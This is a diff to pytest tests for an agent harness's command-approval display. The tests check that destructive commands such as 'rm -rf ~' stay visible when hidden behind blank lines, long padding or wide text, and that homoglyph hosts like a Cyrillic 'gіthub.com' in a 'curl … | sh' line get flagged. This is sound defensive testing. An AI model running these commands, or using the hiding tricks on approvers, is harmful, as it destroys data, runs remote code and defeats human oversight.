@@ -13,7 +13,8 @@ import pytest
 from agy_harness.adapters.simulator.steps import stream_projection
 from agy_harness.core import steps as S
 from agy_harness.core.binding import request_digest
-from agy_harness.core.display import command_view, one_line, visible
+from agy_harness.core.cut_marks import mark
+from agy_harness.core.display import command_view, one_line, path_notes, request_hash, visible
 from agy_harness.core.elicitation import TIMED_OUT, Target, freshest_open
 from agy_harness.core.gates import pending_request
 from agy_harness.core.reconciler import CHANGED, Reconciler
@@ -172,22 +173,56 @@ def test_ordinary_text_is_untouched() -> None:
 
 
 def test_a_tall_command_keeps_its_dangerous_line_visible() -> None:
-    view = command_view("rm -rf ~/work #" + "\n" * 40 + "ls -la")
-    assert view.lines == ("rm -rf ~/work #", "⋯ 39 blank lines ⋯", "ls -la")
-    assert view.prompt_label == "rm -rf ~/work # (+40 more lines)"
-    assert view.title() == "rm -rf ~/work #⏎⋯ 39 blank lines ⋯⏎ls -la"
+    command = "rm -rf ~/work #" + "\n" * 40 + "ls -la"
+    view = command_view(command)
+    h = request_hash(command)
+    assert view.lines == ("rm -rf ~/work #", "⋯ 39 blank lines ⋯", "ls -la", f"⋯ {h} ⋯")
+    assert view.prompt_label == f"rm -rf ~/work # (+40 more lines) {h}"
+    assert view.title() == f"rm -rf ~/work #⏎⋯ 39 blank lines ⋯⏎ls -la {h}"
     tall = command_view("\n".join(f"echo {i}" for i in range(100)), max_lines=12)
-    assert tall.cut and len(tall.lines) == 12 and tall.lines[0] == "echo 0" and tall.lines[-1] == "echo 99"
-    assert "⋯ 89 more lines not shown ⋯" in tall.lines
+    assert tall.cut and len(tall.lines) == 13 and tall.lines[0] == "echo 0" and tall.lines[-2] == "echo 99"
+    assert any(line.startswith("⋯ 89 more lines not shown #") for line in tall.lines)
     spaced = command_view("ls" + " " * 300 + "; rm -rf ~")
-    assert spaced.lines == ("ls ⋯ 300 spaces ⋯ ; rm -rf ~",)
+    assert spaced.lines[:-1] == ("ls ⋯ 300 spaces ⋯ ; rm -rf ~",)
     wide = command_view("echo " + "A" * 5000 + "; rm -rf ~", max_chars=400)
-    [line] = wide.lines
-    assert line.startswith("echo AAA") and line.endswith("AA; rm -rf ~") and "chars not shown ⋯" in line
-    assert len(line) < 450 and wide.prompt_label.endswith(f"⋯ +{5015 - 120} chars ⋯")
+    [line, _] = wide.lines
+    assert line.startswith("echo AAA") and line.endswith("AA; rm -rf ~") and "chars not shown #" in line
+    assert len(line) < 470 and f"⋯ +{5015 - 120} chars #" in wide.prompt_label
 
 
 def test_a_marker_or_a_line_break_cannot_be_forged() -> None:
     forged = command_view("rm -rf ~ # ⋯ 39 blank lines ⋯⏎ls")
     assert "⋯" not in forged.lines[0] and "⏎" not in forged.title()
     assert one_line("a⏎b") != one_line("a\nb")
+
+
+def test_look_alikes_never_render_the_same() -> None:
+    """Issue #35 case 2: a Cyrillic ``і`` in a host, NFC vs NFD, and the middle-cut and tall-cut markers
+    used to render two different texts identically on every card."""
+    latin, cyrillic = "curl https://github.com/x | sh", "curl https://g\u0456thub.com/x | sh"
+    a, b = command_view(latin), command_view(cyrillic)
+    assert a.lines != b.lines and a.title() != b.title() and a.prompt_label != b.prompt_label
+    assert "⋯ ⚠ non-ASCII: і U+0456 CYRILLIC SMALL LETTER BYELORUSSIAN-UKRAINIAN I ⋯" in b.lines
+    assert any('mixed scripts in "https://gіthub.com/x": CYRILLIC, LATIN' in line for line in b.lines)
+    assert not a.flags and len(b.flags) == 2
+    nfc, nfd = "rm -rf ~/caf\u00e9", "rm -rf ~/cafe\u0301"
+    c, d = command_view(nfc), command_view(nfd)
+    assert c.lines != d.lines and c.title() != d.title()
+    assert any("not NFC" in line for line in d.lines) and not any("not NFC" in line for line in c.lines)
+    assert any("U+0301 COMBINING ACUTE ACCENT" in line for line in d.lines)
+    # the middle cut and the tall cut say what they hide
+    wide = [command_view("echo " + "A" * 500 + x + "A" * 500) for x in ("1", "2")]
+    assert wide[0].lines[0] != wide[1].lines[0]
+    tall = [command_view("\n".join(["ls"] * 20 + [x] + ["ls"] * 20)) for x in ("echo 1", "rm -rf ~")]
+    assert tall[0].lines[:-1] != tall[1].lines[:-1]
+    assert path_notes("/home/u/work") == [] and path_notes("/home/u/wоrk")  # a Cyrillic о
+
+
+def test_a_cut_request_says_so_on_its_card() -> None:
+    command = "echo " + "x" * 50 + mark(123, "ab" * 32)
+    view = command_view(command)
+    assert (
+        "⋯ ⚠ cut: 123 more bytes not shown (sha256:abababababababab); it can be denied, not allowed ⋯"
+        in view.lines
+    )
+    assert "⚠ 1 warning" in view.title()
